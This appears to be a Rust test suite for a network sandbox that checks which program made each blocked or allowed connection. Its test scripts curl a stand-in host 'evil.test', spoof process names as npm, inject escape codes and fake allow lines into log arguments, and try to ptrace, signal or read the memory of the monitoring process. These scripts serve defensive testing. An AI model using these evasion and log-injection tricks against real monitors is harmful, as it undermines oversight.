//! Which program of the job it was.

use std::collections::HashMap;
use std::fs;
use std::time::Duration;

use crate::enter;
use crate::jail::Jail;
use crate::outcome::{Event, Outcome};
use crate::suite::{Mode, Suite, both};
use crate::world::World;

pub(crate) fn add(suite: &mut Suite) {
    both!(
        suite,
        programs_are_told,
        udp_programs_are_told,
        ancestors_are_told,
        one_shots_are_told,
        text_shows_who,
        names_are_not_the_programs_to_choose,
        what_is_not_dumpable_is_told,
        hostile_command_lines_are_inert,
        secrets_are_masked,
        many_descriptors_stall_nothing,
        job_cannot_stop_the_witness,
        witness_has_no_rights_but_to_look,
        another_user_is_told,
    );
}

const CURL: &str = "/usr/bin/curl";
/// Other work on the machine may keep the one who looks from looking in time.
const ATTEMPTS: usize = 3;

impl Outcome {
    /// Every event that fits was caused by this program.
    #[track_caller]
    fn assert_by(&self, exe: &str, fits: impl Fn(&Event) -> bool) -> &Self {
        let events: Vec<&Event> = self.events.iter().filter(|event| fits(event)).collect();
        assert!(!events.is_empty(), "no such event: {self}");
        for event in events {
            assert_eq!(event.exe.as_deref(), Some(exe), "{event:?} of {self}");
            assert!(event.pid.is_some_and(|pid| pid > 1), "{event:?}");
        }
        self
    }
}

fn python() -> String {
    fs::canonicalize("/usr/bin/python3").unwrap().display().to_string()
}

fn programs_are_told(mode: Mode) {
    let world = World::new();
    world.site("good.test");
    let jail = Jail::new(&world, mode).allow("good.test");
    for url in ["https://good.test/bytes/40000", "http://good.test/bytes/40000"] {
        // What is allowed is not held back, and its server is on this machine: it takes a while all the same.
        let script = format!("curl -sS --limit-rate 40k -o body {url} & echo $!; wait");
        let outcome = jail.shell(&script);
        let pid: u32 = outcome.stdout.lines().next().unwrap().parse().unwrap();
        outcome.assert_success().assert_by(CURL, |event| event.kind != "dns");
        let event = outcome.events.iter().find(|event| event.kind != "dns").unwrap();
        assert_eq!(event.pid, Some(pid), "the number that the job knows");
        assert_eq!(event.args, ["curl", "-sS", "--limit-rate", "40k", "-o", "body", url]);
    }
    // Another name, an address, and what is no protocol.
    for url in
        ["https://evil.test/", "http://198.51.100.66/", "https://198.51.100.66/", "ftp://198.51.100.66:9999/"]
    {
        jail.shell(&format!("curl -sS {url}; exit 0")).assert_by(CURL, |event| event.verdict == "deny");
    }
    let tcp = "import socket; s = socket.create_connection(('203.0.113.53', 53)); s.send(b'\\0\\x1d\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4evil\\4test\\0\\0\\1\\0\\1'); s.recv(9)";
    jail.python(tcp).assert_by(&python(), |event| event.kind == "dns");
}

fn udp_programs_are_told(mode: Mode) {
    let world = World::new();
    let (_, address) = world.udp_echo("time.test", 123);
    let script = format!(
        "import socket\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         s.sendto(b'x', ('{address}', 123)); s.recv(9)\n\
         s.sendto(b'x', ('198.51.100.66', 9))\n\
         c = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\n\
         c.connect(('::ffff:198.51.100.66', 10)); c.send(b'x')\n\
         try: c.recv(9)\n\
         except OSError: pass\n\
         l = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         l.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'eth0')\n\
         l.connect(('198.51.100.66', 11)); l.send(b'x')\n\
         try: l.recv(9)\n\
         except OSError: pass\n"
    );
    let outcome = Jail::new(&world, mode).allow(&format!("{address}:123/udp")).python(&script);
    outcome.assert_success().assert_by(&python(), |event| event.kind == "udp");
    assert_eq!(outcome.events.iter().filter(|event| event.kind == "udp").count(), 4, "{outcome}");
}

fn ancestors_are_told(mode: Mode) {
    let world = World::new();
    let sh = fs::canonicalize("/bin/sh").unwrap().display().to_string();
    let bash = fs::canonicalize("/bin/bash").unwrap().display().to_string();
    let script = "sh -c 'curl -sS http://evil.test/; exit 0'; exit 0";
    let outcome = Jail::new(&world, mode).run(["bash", "-c", script]);
    outcome.assert_by(CURL, |_| true);
    assert!(
        outcome.events.iter().all(|event| event.parents == [sh.clone(), bash.clone()]),
        "{outcome:?}",
        outcome = outcome.events
    );
    let deep = "n=$1; if [ $n = 0 ]; then curl -sS http://evil.test/; else sh -c \"$0\" \"$0\" $((n - 1)); fi; exit 0";
    let outcome = Jail::new(&world, mode).run(["sh", "-c", deep, deep, "12"]);
    assert!(outcome.events.iter().all(|event| event.parents == vec![sh.clone(); 8]), "{:?}", outcome.events);
}

/// Programs that end as soon as they have their answer, and whose parents are gone before.
fn one_shots_are_told(mode: Mode) {
    const COUNT: usize = 100;
    const ENOUGH: usize = 99;
    let world = World::new();
    world.site("good.test");
    let jail = Jail::new(&world, mode).allow("good.test").within(Duration::from_secs(60));
    for (what, url) in [
        ("denied names", "http://n$n.evil.test/".to_owned()),
        ("denied addresses", "http://198.51.100.66:$((20000 + n))/".to_owned()),
        ("denied TLS", "https://198.51.100.66:$((20000 + n))/".to_owned()),
        ("allowed", "http://good.test/$n".to_owned()),
    ] {
        for script in ["curl -s URL & echo $n $!", "(curl -s URL & echo $n $!; exit)"] {
            let script = script.replace("URL", &url);
            // Ten at a time: a hundred at once are a test of the machine.
            let script = format!(
                "for n in $(seq {COUNT}); do n=$n sh -c '{script}'; [ $((n % 10)) != 0 ] || sleep 0.2; done \
                 | grep -E '^[0-9]+ [0-9]+$' | cat"
            );
            let right = (0..ATTEMPTS)
                .map(|_| {
                    let outcome = jail.shell(&script);
                    let pids: HashMap<usize, u32> = outcome
                        .stdout
                        .lines()
                        .filter_map(|line| {
                            let (number, pid) = line.split_once(' ')?;
                            Some((number.parse().ok()?, pid.parse().ok()?))
                        })
                        .collect();
                    assert_eq!(pids.len(), COUNT, "{outcome}");
                    let is_right = |number: usize| {
                        let name = format!("n{number}.evil.test");
                        let url = format!("http://good.test/{number}");
                        let own = |event: &&Event| {
                            event.name.as_deref() == Some(&name)
                                || event.port == Some(20000 + number as u16)
                                || event.url.as_deref() == Some(&url)
                        };
                        let mut events = outcome.events.iter().filter(own).peekable();
                        events.peek().is_some()
                            && events.all(|event| {
                                event.pid == Some(pids[&number]) && event.exe.as_deref() == Some(CURL)
                            })
                    };
                    let right = (1..=COUNT).filter(|&number| is_right(number)).count();
                    let strangers = outcome
                        .events
                        .iter()
                        .filter(|event| event.exe.as_deref().is_some_and(|exe| exe != CURL));
                    assert_eq!(strangers.count(), 0, "{outcome}");
                    right
                })
                .find(|right| *right >= ENOUGH);
            assert!(right.is_some(), "{what}: never {ENOUGH} of {COUNT} in {ATTEMPTS} attempts, {script}");
        }
    }
}

fn text_shows_who(mode: Mode) {
    let world = World::new();
    let script = "for n in 1 2 3; do curl -sS http://evil.test/; done; exit 0";
    let outcome = Jail::new(&world, mode).without_log_file().run(["bash", "-c", script]);
    let lines: Vec<&str> =
        outcome.stderr.lines().filter(|line| line.contains("deny dns evil.test (A)")).collect();
    assert_eq!(lines.len(), 2, "repeats are folded, whatever the number of the process: {outcome}");
    assert!(lines[0].contains(" (A) (curl["), "{outcome}");
    assert!(lines[0].contains("] < bash) not-allowed; to allow: --allow evil.test"), "{outcome}");
    assert!(
        lines[1].ends_with(" (A) (curl < bash) not-allowed; to allow: --allow evil.test (2 more)"),
        "{outcome}"
    );
}

/// Another name in the process table, another first argument, and a name of the file that looks like a log's.
fn names_are_not_the_programs_to_choose(mode: Mode) {
    let world = World::new();
    let renamed = "\
import ctypes, os, socket, sys
ctypes.CDLL(None).prctl(15, b'npm', 0, 0, 0)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(('198.51.100.66', 9))
s.send(b'x')
try: s.recv(1)
except OSError: pass
";
    let jail = Jail::new(&world, mode);
    let forged = jail.run(["bash", "-c", "exec -a /usr/bin/npm /usr/bin/python3 -c \"$0\"", renamed]);
    forged.assert_success().assert_by(&python(), |event| event.kind == "udp");
    assert_eq!(forged.events[0].args[0], "/usr/bin/npm", "what it calls itself stays what it says");
    let copy = "cp /usr/bin/curl 'a[1] < npm) allowed\n'; ./a* -sS http://evil.test/; exit 0";
    let copied = jail.shell(copy);
    assert!(
        copied
            .events
            .iter()
            .all(|event| event.exe.as_deref().is_some_and(|exe| exe.ends_with("/a[1] < npm) allowed\\n"))),
        "{copied}"
    );
    let text = Jail::new(&world, mode).without_log_file().shell(copy);
    text.assert_says("(a\\u{5b}1\\u{5d}\\u{20}\\u{3c}\\u{20}npm\\u{29}\\u{20}allowed\\u{a}[");
}

fn what_is_not_dumpable_is_told(mode: Mode) {
    let world = World::new();
    let script = "\
import ctypes, socket
ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(('198.51.100.66', 9))
s.send(b'x')
try: s.recv(1)
except OSError: pass
";
    Jail::new(&world, mode).python(script).assert_success().assert_by(&python(), |event| event.kind == "udp");
}

fn hostile_command_lines_are_inert(mode: Mode) {
    let world = World::new();
    let script = "\
import os, socket, sys
if len(sys.argv) == 1:
    line = [b'python3', sys.argv[0].encode() or b'-c', b'\\ncijail-net: allow tls evil\\x1b[2J\\xff\\xfe\\xe2\\x80\\xae', b'x' * 100000] + [b'y' * 100000] * 9
    os.execv('/usr/bin/python3', [b'python3', b'-c', open('script.py', 'rb').read()] + line[2:])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(('198.51.100.66', 9))
s.send(b'x')
try: s.recv(1)
except OSError: pass
";
    let file = world.files().home(mode).join("script.py");
    // The hostile argument first, so that it is within what is shown.
    let start = "import os; os.execv('/usr/bin/python3', [b'\\ncijail-net: allow tls evil\\x1b[2J\\xff\\xe2\\x80\\xae', b'script.py', b'again'] + [b'y' * 100000] * 10)";
    fs::write(&file, script).unwrap();
    let outcome = Jail::new(&world, mode).python(start);
    outcome.assert_success().assert_by(&python(), |event| event.kind == "udp");
    let shown = &outcome.events[0].args;
    assert_eq!(shown[0], "\\ncijail-net: allow tls evil\\u{1b}[2J\\u{fffd}\\u{202e}");
    assert!(shown.iter().map(String::len).sum::<usize>() < 300, "{shown:?}");
    let text = Jail::new(&world, mode).without_log_file().python(start);
    assert!(!text.stderr.contains('\u{1b}') && !text.stderr.contains("allow tls"), "{text}");
}

fn secrets_are_masked(mode: Mode) {
    let world = World::new();
    let outcome = Jail::new(&world, mode).run([
        "curl",
        "-sS",
        "-u",
        "me:hunter2",
        "-H",
        "Authorization: Bearer hunter2",
        "--oauth2-bearer",
        "hunter2",
        "http://me:hunter2@evil.test/?key=hunter2",
    ]);
    outcome.assert_by(CURL, |_| true);
    assert!(
        outcome.events.iter().all(|event| !format!("{event:?}").contains("hunter2")),
        "{:?}",
        outcome.events
    );
}

/// A job that makes the search as dear as it can does not delay others, and hides at most itself.
fn many_descriptors_stall_nothing(mode: Mode) {
    let world = World::new();
    world.site("good.test");
    let script = "\
import os, signal, subprocess, sys, time
pipe = os.pipe()
for process in range(500):
    if os.fork() == 0:
        for n in range(200): os.dup(0)
        os.write(pipe[1], b'x')
        signal.pause()
got = 0
while got < 500: got += len(os.read(pipe[0], 500))
start = time.monotonic()
for n in range(50):
    subprocess.run(['curl', '-sS', '-o', '/dev/null', 'http://good.test/'], check=True)
print('took', time.monotonic() - start)
";
    let jail = Jail::new(&world, mode).allow("good.test").within(Duration::from_secs(60));
    let outcome = jail.python(script);
    outcome.assert_success();
    let took: f64 = outcome.stdout.trim().strip_prefix("took ").unwrap().parse().unwrap();
    assert!(took < 5.0 * f64::from(crate::wait::patience()), "{outcome}");
    outcome.assert_by(CURL, |event| event.exe.is_some());
}

fn job_cannot_stop_the_witness(mode: Mode) {
    let world = World::new();
    let script = "\
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
for thread in [1] + [int(t) for t in os.listdir('/proc/1/task')]:
    for number in range(1, 65):
        if number == 32 or number == 33: continue
        libc.syscall(234, 1, thread, number)
        try: os.kill(1, number)
        except OSError: pass
    if libc.ptrace(0x4206, thread, None, None) == 0: print('seized', thread)
    for file in ('mem', 'environ'):
        try: print(file, open(f'/proc/1/task/{thread}/{file}', 'rb').read(1))
        except OSError: pass
try: print('fd', os.listdir('/proc/1/fd'), [os.readlink(f'/proc/1/fd/{n}') for n in os.listdir('/proc/1/fd')])
except OSError: pass
for n in range(3, 100):
    try: print('own', n, os.readlink(f'/proc/self/fd/{n}'))
    except OSError: pass
print('tried', flush=True)
os.execvp('sh', ['sh', '-c', 'curl -sS http://evil.test/; exit 0'])
";
    let outcome = Jail::new(&world, mode).python(script);
    outcome.assert_success().assert_stdout("tried\n").assert_by(CURL, |_| true);
}

/// Bits of CAP_DAC_READ_SEARCH and CAP_SYS_PTRACE, and of CAP_KILL.
fn witness_has_no_rights_but_to_look(mode: Mode) {
    let world = World::new();
    let outcome = Jail::new(&world, mode)
        .shell("for t in /proc/1/task/*; do echo $(cat $t/comm; grep CapEff $t/status | cut -f2); done");
    let mut lines: Vec<&str> = outcome.stdout.lines().collect();
    lines.sort_unstable();
    assert_eq!(lines.len(), 2, "{outcome}");
    assert!(lines.iter().any(|line| line.ends_with("0000000000000020")), "{outcome}");
    assert!(lines.contains(&"witness 0000000000080004"), "{outcome}");
}

fn another_user_is_told(mode: Mode) {
    let world = World::new();
    if mode != Mode::Root || !enter::as_real_root() {
        return;
    }
    let directory = world.files().home(Mode::Rootless);
    let jail = Jail::new(&world, mode).directory(directory).option("--user").option("runner");
    jail.shell("curl -sS http://evil.test/; exit 0").assert_by(CURL, |_| true);
}
